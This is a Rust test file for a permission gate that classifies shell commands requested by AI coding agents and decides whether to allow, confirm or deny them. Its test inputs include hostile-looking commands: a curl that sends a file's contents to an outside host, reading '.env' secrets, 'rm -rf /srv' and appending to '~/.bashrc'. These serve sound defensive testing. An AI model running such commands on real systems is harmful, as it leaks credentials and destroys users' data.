//! Tests the service's reports of each hook of its gate.

use std::time::Duration;

use hooks_guard::audit::AuditStore;
use hooks_guard::classify::{Classification, Classifier, CommandAnalysis, Decision, Method};
use hooks_guard::config::Config;
use hooks_guard::gate::{Classify, Gate, GateHooks, Policy, Restrict, Restriction};
use hooks_guard::places::Places;
use hooks_guard::rules::{Protected, RuleBook};
use hooks_guard::service::{
    Dispatch, HookRun, OperatorAnswer, PermissionService, RememberScope, RespondResult, Runs,
    StepRun,
};
use hooks_guard::{NetworkAccess, PermissionRequest};
use hooks_runtime::{Entry, FailurePolicy, HookError};

/// A classifier that panics or never completes if the command after its word requests it.
struct Scripted(&'static str);

impl Classify for Scripted {
    async fn classify(&self, request: &PermissionRequest) -> Option<CommandAnalysis> {
        let instruction = request.command.strip_prefix(self.0)?;
        match instruction {
            " panics" => panic!("no result for password=hunter2222"),
            " sleeps" => std::future::pending().await,
            _ => Classifier::new().analyze("ls").ok(),
        }
    }
}

async fn service(hooks: GateHooks) -> (PermissionService, tempfile::TempDir) {
    let folder = tempfile::tempdir().unwrap();
    let url = format!("sqlite:{}", folder.path().join("audit.db").display());
    let audit = AuditStore::open(&url).await.unwrap();
    let gate = Gate::with_hooks(hooks, Policy::default());
    let service = PermissionService::new(gate, audit, Duration::from_secs(60));
    (service, folder)
}

fn three_classifiers() -> GateHooks {
    GateHooks::new()
        .with_classify_entry(Entry::new(Scripted("c")).name("third").priority(3))
        .with_classify_entry(Entry::new(Scripted("a")).name("first").priority(1))
        .with_classify_entry(
            Entry::new(Scripted("b"))
                .name("second")
                .key("middle")
                .priority(2),
        )
}

/// Returns the status of each hook, by its name.
fn hooks(dispatch: &Dispatch) -> Vec<(&str, StepRun)> {
    let hooks = dispatch.steps[0].hooks.iter();
    hooks.map(|hook| (&*hook.name, hook.run)).collect()
}

fn counts(runs: &Runs) -> [u64; 4] {
    [runs.runs, runs.decided, runs.skipped, runs.failed]
}

#[tokio::test]
async fn runs_are_counted_for_each_hook() {
    let (service, _folder) = service(three_classifiers()).await;
    for command in ["a", "b", "b", "c"] {
        let permission = service.request(PermissionRequest::new(command)).await;
        assert_eq!(permission.unwrap().decision, Decision::AutoAllowed);
    }
    let all = service.hook_runs("classify");
    let all: Vec<_> = all.iter().map(counts).collect();
    assert_eq!(all, [[4, 1, 0, 0], [3, 2, 1, 0], [1, 1, 3, 0]]);
    assert_eq!(counts(&service.runs("classify")), [4, 4, 0, 0]);
    let last = service.dispatches();
    let (ran, decided, skipped) = (StepRun::Ran, StepRun::Decided, StepRun::Skipped);
    assert_eq!(
        hooks(&last[0]),
        [("first", ran), ("second", ran), ("third", decided)]
    );
    assert_eq!(
        hooks(&last[1]),
        [("first", ran), ("second", decided), ("third", skipped)]
    );
    assert_eq!(last[1].steps[0].detail.as_deref(), Some("second"));
}

#[tokio::test]
async fn a_failed_hook_ends_the_dispatch_and_is_recorded() {
    let (service, _folder) = service(three_classifiers()).await;
    let request = PermissionRequest::new("b panics");
    let permission = service.request(request).await.unwrap();
    assert_eq!(permission.decision, Decision::RequiresConfirmation);
    assert_eq!(permission.classification_method, Method::Fallback);
    let all = service.hook_runs("classify");
    let all_counts: Vec<_> = all.iter().map(counts).collect();
    assert_eq!(all_counts, [[1, 0, 0, 0], [1, 0, 0, 1], [0, 0, 1, 0]]);
    let fault = all[1].last_fault.as_deref();
    assert_eq!(fault, Some("panicked: no result for password=[secret]"));
    assert!(all[1].last_fault_at.is_some());
    assert!(all[0].last_fault.is_none());
    let [dispatch] = &service.dispatches()[..] else {
        panic!("there is one dispatch");
    };
    assert_eq!(dispatch.steps[0].run, StepRun::Failed);
    let fault = "classifier `second` panicked: no result for password=[secret]";
    assert_eq!(dispatch.steps[0].detail.as_deref(), Some(fault));
    let record = service.audit().decision(permission.id.unwrap()).await;
    assert_eq!(record.unwrap().unwrap().error.as_deref(), Some(fault));
}

#[tokio::test]
async fn an_isolated_hook_that_fails_is_skipped() {
    let isolated = Entry::new(Scripted("b")).on_failure(FailurePolicy::Isolate);
    let hooks = GateHooks::new()
        .with_classify_entry(isolated)
        .with_classify(Classifier::new());
    let (service, _folder) = service(hooks).await;
    let request = PermissionRequest::new("b panics");
    let permission = service.request(request).await.unwrap();
    assert!(permission.confidence > 0.0);
    let all: Vec<_> = service.hook_runs("classify").iter().map(counts).collect();
    assert_eq!(all, [[1, 0, 0, 1], [1, 1, 0, 0]]);
    let [dispatch] = &service.dispatches()[..] else {
        panic!("there is one dispatch");
    };
    assert_eq!(dispatch.steps[0].run, StepRun::Decided);
    assert_eq!(dispatch.steps[0].detail.as_deref(), Some("Classifier"));
    let record = service.audit().decision(permission.id.unwrap()).await;
    let error = record.unwrap().unwrap().error.unwrap();
    assert!(
        error.starts_with("classifier `Scripted` panicked"),
        "{error}"
    );
}

#[tokio::test(start_paused = true)]
async fn p_08_all_hooks_of_a_dispatch_share_one_timeout() {
    let hooks = GateHooks::new().with_classify(Scripted("b"));
    let gate = Gate::with_hooks(hooks, Policy::default());
    let gate_decision = gate.decide(&PermissionRequest::new("b sleeps")).await;
    assert_eq!(
        gate_decision.permission.decision,
        Decision::RequiresConfirmation
    );
    assert!(gate_decision.permission.reasoning.contains("timed out"));
    let [HookRun { run, fault, .. }] = &gate_decision.steps[0].hooks[..] else {
        panic!("there is one hook");
    };
    assert_eq!(*run, StepRun::Failed);
    assert!(fault.as_deref().unwrap().starts_with("timed out"));
}

#[tokio::test]
async fn p_12_a_gate_without_a_classifier_is_an_error() {
    let (service, _folder) = service(GateHooks::new()).await;
    let request = PermissionRequest::new("ls");
    let refused = service.request(request).await.unwrap_err();
    assert!(refused.to_string().starts_with("no classifier"));
}

/// A hook that applies the behaviour named by its word to commands that contain the word.
struct RestrictsOnWord(&'static str);

impl Restrict for RestrictsOnWord {
    async fn restrict(
        &self,
        request: &PermissionRequest,
        _: &Classification,
    ) -> Result<Option<Restriction>, HookError> {
        let is_named = request.command.split(' ').any(|word| word == self.0);
        let why = || "a test reason".to_owned();
        match self.0 {
            _ if !is_named => Ok(None),
            "ask" => Ok(Some(Restriction::Ask(why()))),
            "deny" => Ok(Some(Restriction::Deny(why()))),
            "fail" => Err(HookError::new("a test failure")),
            "panic" => panic!("a test failure"),
            _ => std::future::pending().await,
        }
    }
}

fn restricting() -> GateHooks {
    ["ask", "fail", "panic", "deny", "sleep"].into_iter().fold(
        GateHooks::new().with_classify(Classifier::new()),
        |hooks, word| hooks.with_restrict_entry(Entry::new(RestrictsOnWord(word)).name(word)),
    )
}

#[tokio::test]
async fn p_06_the_strictest_restriction_decides() {
    let (service, _folder) = service(restricting()).await;
    let (asks, allowed) = (Decision::RequiresConfirmation, Decision::AutoAllowed);
    for (command, decision, denied, rule) in [
        ("ls", allowed, false, None),
        ("ls ask", asks, false, Some("hook: ask")),
        ("ls fail", asks, false, Some("built in: hook fail failed")),
        ("ls panic", asks, false, Some("built in: hook panic failed")),
        ("ls deny", asks, true, Some("hook: deny")),
        ("ls ask deny", asks, true, Some("hook: deny")),
        ("ls fail panic deny", asks, true, Some("hook: deny")),
    ] {
        let request = PermissionRequest::new(command);
        let permission = service.request(request).await.unwrap();
        let found = (
            permission.decision,
            permission.denied,
            permission.rule.as_deref(),
        );
        assert_eq!(found, (decision, denied, rule), "{command}");
    }
    let all: Vec<_> = service.hook_runs("restrict").iter().map(counts).collect();
    let [ask, fail, panic, deny, sleep] = all[..] else {
        panic!("five are registered");
    };
    assert_eq!(ask, [7, 0, 0, 0]);
    assert_eq!(fail, [7, 0, 0, 2]);
    assert_eq!(panic, [7, 0, 0, 2]);
    assert_eq!(deny, [7, 3, 0, 0]);
    assert_eq!(sleep, [4, 0, 3, 0], "nothing is stricter than to deny");
}

#[tokio::test]
async fn p_06_no_setting_relaxes_a_restriction_of_a_hook() {
    let policy = Policy {
        dangerously_skip_confirmations: true,
        require_confirmation_cud: false,
        ..Policy::default()
    };
    let gate = Gate::with_hooks(restricting(), policy);
    for (command, decision) in [
        ("rm -r out", Decision::AutoAllowed),
        ("rm -r out ask", Decision::RequiresConfirmation),
        ("rm -r out fail", Decision::RequiresConfirmation),
    ] {
        let gate_decision = gate.decide(&PermissionRequest::new(command)).await;
        assert_eq!(gate_decision.permission.decision, decision, "{command}");
    }
}

#[tokio::test]
async fn p_06_every_part_is_checked_if_changes_are_allowed() {
    let policy = Policy {
        require_confirmation_cud: false,
        ..Policy::default()
    };
    let gate = Gate::new(Classifier::new(), policy);
    for (command, decision) in [
        ("ls", Decision::AutoAllowed),
        ("touch x", Decision::AutoAllowed),
        ("touch x; rm -r out", Decision::AutoAllowed),
        ("cat .env", Decision::RequiresConfirmation),
        ("touch x; cat .env", Decision::RequiresConfirmation),
        ("cat .env; touch x", Decision::RequiresConfirmation),
        (
            "mkdir x; curl https://e.org/$(cat y)",
            Decision::RequiresConfirmation,
        ),
        ("housectl purge 7", Decision::RequiresConfirmation),
        ("touch x; housectl purge 7", Decision::RequiresConfirmation),
        ("rm x; housectl purge 7", Decision::RequiresConfirmation),
    ] {
        let gate_decision = gate.decide(&PermissionRequest::new(command)).await;
        assert_eq!(gate_decision.permission.decision, decision, "{command}");
    }
}

#[tokio::test]
async fn an_approval_after_a_failed_hook_cannot_be_remembered() {
    let (service, _folder) = service(restricting()).await;
    let always = OperatorAnswer {
        approved: true,
        remember: RememberScope::Always,
        note: None,
        confirms_deletion: false,
    };
    for (command, remembered) in [("ls fail", false), ("ls ask", true)] {
        let request = PermissionRequest::new(command);
        let id = service.request(request).await.unwrap().id.unwrap();
        let answered = service.respond(id, always.clone(), "test").await.unwrap();
        let taken = matches!(answered, RespondResult::Answered(_));
        assert_eq!(taken, remembered, "{command}");
    }
}

#[tokio::test(start_paused = true)]
async fn a_restriction_hook_that_times_out_requires_confirmation() {
    let gate = Gate::with_hooks(restricting(), Policy::default());
    let gate_decision = gate.decide(&PermissionRequest::new("ls sleep")).await;
    assert_eq!(
        gate_decision.permission.decision,
        Decision::RequiresConfirmation
    );
    assert!(
        !gate_decision.may_be_remembered,
        "the hook may respond next time"
    );
    let error = gate_decision.error.unwrap();
    assert!(error.starts_with("hook `sleep` timed out"), "{error}");
}

/// A hook that fails might have denied, so no mode leaves the request to the agent.
#[tokio::test]
async fn no_permission_mode_leaves_a_hook_failure_to_the_agent() {
    let policy = Config::parse("[modes]\ndefault = 'nothing'").unwrap();
    let gate = Gate::with_hooks(restricting(), policy.policy());
    for (command, left) in [
        ("rm a", true),
        ("rm a ask", true),
        ("rm a fail", false),
        ("rm a panic", false),
        ("rm a sleep", false),
    ] {
        let permission = gate
            .decide(&PermissionRequest::new(command))
            .await
            .permission;
        assert_eq!(
            permission.decision,
            Decision::RequiresConfirmation,
            "{command}"
        );
        assert_eq!(permission.left_to_agent, left, "{command}: {permission:?}");
    }
}

/// By default, too, a failing hook leaves nothing to the agent.
#[tokio::test]
async fn no_default_of_a_mode_leaves_a_hook_failure_to_the_agent() {
    let gate = Gate::with_hooks(restricting(), Config::default().policy());
    for mode in ["acceptEdits", "auto"] {
        for (command, left) in [
            ("touch a", true),
            ("touch a ask", false),
            ("touch a fail", false),
            ("touch a panic", false),
            ("touch a sleep", false),
        ] {
            let request = PermissionRequest {
                permission_mode: Some(mode.to_owned()),
                agent: Some("claude-code".to_owned()),
                cwd: Some("/srv/project".into()),
                ..PermissionRequest::new(command)
            };
            let permission = gate.decide(&request).await.permission;
            let shown = format!("{mode} {command}: {permission:?}");
            assert_eq!(permission.left_to_agent, left, "{shown}");
        }
    }
}

/// A permission mode selects the requests that need confirmation; a `deny` rule applies in every
/// mode.
#[tokio::test]
async fn a_permission_mode_selects_the_requests_that_need_confirmation() {
    let config = Config::parse(
        "[modes]\ndefault = 'changes'\nauto = 'deletions'\nplan = 'nothing'\nacceptEdits = 'deletions'",
    )
    .unwrap();
    let rules = "[[rule]]\neffect = 'deny'\nprogram = 'rmdir'\n[[rule]]\neffect = 'ask'\nprogram = 'touch'\n";
    let home = tempfile::tempdir().unwrap();
    let places = Places::below(home.path());
    std::fs::create_dir_all(&places.config).unwrap();
    std::fs::write(places.rules_file(), rules).unwrap();
    let book = RuleBook::new(&places, Protected::new(home.path()));
    let gate = Gate::new(Classifier::new(), config.policy()).with_rules(book);
    for (mode, command, left) in [
        (None, "mkdir a", false),
        (Some("default"), "mkdir a", false),
        (Some("tomorrow's"), "mkdir a", false),
        (Some("auto"), "mkdir a", true),
        (Some("acceptEdits"), "sed -i s/a/b/ c", true),
        (Some("auto"), "rm a", false),
        (Some("auto"), "touch a", false),
        (Some("auto"), "cat .env", false),
        (Some("auto"), "frobnicate", false),
        (Some("plan"), "rm a", true),
        (Some("plan"), "touch a", true),
        (Some("plan"), "rmdir a", false),
        (Some("plan"), "echo x >> ~/.bashrc", false),
    ] {
        let request = PermissionRequest {
            permission_mode: mode.map(str::to_owned),
            ..PermissionRequest::new(command)
        };
        let permission = gate.decide(&request).await.permission;
        assert_eq!(
            permission.decision,
            Decision::RequiresConfirmation,
            "{mode:?} {command}"
        );
        assert_eq!(
            permission.left_to_agent, left,
            "{mode:?} {command}: {permission:?}"
        );
        assert_eq!(
            permission.denied,
            command.starts_with("rmdir"),
            "{mode:?} {command}"
        );
    }
    for (agent, left) in [("claude-code", true), ("codex", false), ("vscode", false)] {
        let request = PermissionRequest {
            agent: Some(agent.to_owned()),
            permission_mode: Some("auto".to_owned()),
            ..PermissionRequest::new("mkdir a")
        };
        let permission = gate.decide(&request).await.permission;
        assert_eq!(permission.left_to_agent, left, "{agent}: {permission:?}");
    }
    let error = Config::parse("[modes]\nauto = 'sometimes'").unwrap_err();
    assert!(error.to_string().contains("sometimes"), "{error}");
}

/// The model writes the text that names the host, so a rule for hosts allows no other command.
/// The classifier says whether the class needs approval; a rule may decide otherwise.
#[tokio::test]
async fn an_explanation_agrees_with_the_decision() {
    let home = tempfile::tempdir().unwrap();
    let places = Places::below(home.path());
    std::fs::create_dir_all(&places.config).unwrap();
    let rule = |effect: &str, program: &str| {
        format!("[[rule]]\neffect = '{effect}'\nprogram = '{program}'\n")
    };
    let rules = [
        rule("allow", "mkdir"),
        rule("ask", "ls"),
        rule("deny", "rm"),
    ];
    std::fs::write(places.rules_file(), rules.concat()).unwrap();
    let book = RuleBook::new(&places, Protected::new(home.path()));
    let gate = Gate::tables_only().with_rules(book);
    for (command, explanation) in [
        ("mkdir a", "This creates something or runs code."),
        (
            "touch a",
            "This creates something or runs code, and requires approval.",
        ),
        ("ls", "Nothing changes."),
        ("cat a", "Nothing changes; no confirmation needed."),
        (
            "cat .env",
            "Nothing changes, but what it reads or sends requires approval.",
        ),
        ("rm a", "This deletes or discards something."),
    ] {
        let request = PermissionRequest::new(command);
        let permission = gate.decide(&request).await.permission;
        assert!(
            permission.explanation.ends_with(explanation),
            "{command}: {}",
            permission.explanation
        );
    }
}

#[tokio::test]
async fn network_access_is_allowed_only_for_an_allowed_command() {
    let home = tempfile::tempdir().unwrap();
    let places = Places::below(home.path());
    std::fs::create_dir_all(&places.config).unwrap();
    let rules = "[[rule]]\neffect = 'allow'\nhost = 'crates.io'\n[[rule]]\neffect = 'allow'\nprogram = 'cargo'\nsubcommand = 'build'\n";
    std::fs::write(places.rules_file(), rules).unwrap();
    let book = RuleBook::new(&places, Protected::new(home.path()));
    let gate = Gate::tables_only().with_rules(book);
    for (command, decision) in [
        (Some("git ls-remote"), Decision::AutoAllowed),
        (Some("cargo build"), Decision::AutoAllowed),
        (Some("rm -rf /srv"), Decision::RequiresConfirmation),
        (None, Decision::AutoAllowed),
    ] {
        let mut network = NetworkAccess::from_target("https://crates.io:443");
        network.command = command.map(str::to_owned);
        let request = PermissionRequest {
            network: Some(network.clone()),
            ..PermissionRequest::new(network.to_string())
        };
        let permission = gate.decide(&request).await.permission;
        assert_eq!(permission.decision, decision, "{command:?}: {permission:?}");
    }
}

/// Commands with secrets are classified more than once.
#[tokio::test]
async fn long_texts_with_secrets_are_masked_in_bounded_time() {
    let gate = Gate::tables_only();
    let many: String = (0..400)
        .map(|number| format!("T{number}_TOKEN=abcdef{number} "))
        .collect();
    for command in [
        format!("sh <<E\nTOKEN=abcdefgh\n{}E", "rm x\n".repeat(1_900)),
        format!("TOKEN=abcdefgh; {}", "$TOKEN;".repeat(1_300)),
        format!("TOKEN=abcdefgh; {}", "eval ".repeat(1_900)),
        format!(
            "TOKEN=abcdefgh; {}",
            "f(){ f; $TOKEN; }; f; rm x;".repeat(300)
        ),
        format!("{many} ./frob"),
        format!("{many}; $T1_TOKEN"),
        format!(
            "curl -X POST {}",
            "-H 'Authorization: Bearer abcdef' ".repeat(280)
        ),
        format!(
            "psql -c \"{}\"",
            "ALTER ROLE x PASSWORD 'abcdef';".repeat(300)
        ),
        format!(
            "psql -c \"{}\"",
            "CREATE USER x IDENTIFIED WITH a ".repeat(300)
        ),
        format!("expect -c '{}'", "expect password; send ".repeat(440)),
        format!("echo {} | sudo -S rm x", "a ".repeat(4_800)),
        format!("machine a {} password b", "login x ".repeat(1_200)),
        format!(
            "TOKEN=abcdefgh; {}$TOKEN; {}",
            "for a in 1 2 3 4 5 6 7 8; do ".repeat(12),
            "done;".repeat(12)
        ),
    ] {
        let start = std::time::Instant::now();
        let gate_decision = gate.decide(&PermissionRequest::new(&*command)).await;
        let shown: String = command.chars().take(40).collect();
        let took = start.elapsed();
        // Far above the time of these texts on a busy machine.
        assert!(
            took < std::time::Duration::from_secs(60),
            "{shown} took {took:?}"
        );
        let decision = gate_decision.permission.decision;
        assert_eq!(decision, Decision::RequiresConfirmation, "{shown}");
    }
}

#[tokio::test]
async fn a_command_that_is_too_long_is_asked_with_its_length_first() {
    let home = tempfile::tempdir().unwrap();
    let places = Places::below(home.path());
    let book = RuleBook::new(&places, Protected::new(home.path()));
    let gate = Gate::new(Classifier::new(), Policy::default()).with_rules(book);
    for length in [10_001, 10_505, 40_000] {
        let command = format!("echo {}", "a".repeat(length - 5));
        let decided = gate.decide(&PermissionRequest::new(&*command)).await;
        let permission = decided.permission;
        assert_eq!(permission.decision, Decision::RequiresConfirmation);
        let start = format!("the command has {length} characters; at most 10000 are allowed");
        assert!(
            permission.reasoning.starts_with(&start),
            "{}",
            permission.reasoning
        );
    }
}
